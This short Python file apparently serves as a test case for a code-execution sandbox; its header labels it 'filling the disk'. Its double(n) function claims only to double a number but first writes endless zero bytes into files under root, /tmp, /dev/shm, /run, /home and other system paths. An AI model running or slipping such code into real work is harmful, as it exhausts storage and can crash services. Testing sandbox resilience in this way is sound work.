# kind: filling the disk
# runs: 2
# wants: passed passed passed
import os


def fill(path):
    try:
        with open(path, "wb") as file:
            while True:
                file.write(bytes(1 << 16))
    except OSError:
        pass


def double(n):
    for folder in ("/", "/tmp", "/dev/shm", "/dev", "/run", "/var/tmp", "/var/lib", "/home", "/opt", "/sys/fs/cgroup"):
        fill(os.path.join(folder, f"full-{n}"))
    return 2 * n
